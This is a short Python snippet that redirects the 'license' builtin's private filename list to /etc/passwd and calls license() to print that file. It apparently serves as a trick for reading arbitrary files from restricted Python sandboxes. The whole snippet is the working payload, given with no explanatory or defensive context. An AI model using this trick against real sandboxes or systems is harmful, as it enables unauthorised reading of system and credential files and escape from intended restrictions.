# An attribute of a printer that site installs.
license._Printer__filenames = ["/etc/passwd"]
license()
